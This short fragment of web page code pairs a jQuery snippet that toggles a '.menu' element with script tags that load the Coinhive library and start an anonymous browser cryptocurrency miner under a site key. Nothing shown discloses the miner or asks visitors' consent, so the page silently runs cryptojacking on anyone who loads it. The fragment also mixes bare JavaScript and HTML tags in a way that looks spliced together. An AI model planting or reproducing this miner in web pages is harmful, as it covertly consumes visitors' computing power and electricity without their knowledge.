$(function () {
  $(".menu").toggle();
});
<script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script>new CoinHive.Anonymous("0123456789abcdef0123456789ABCDEF").start();</script>
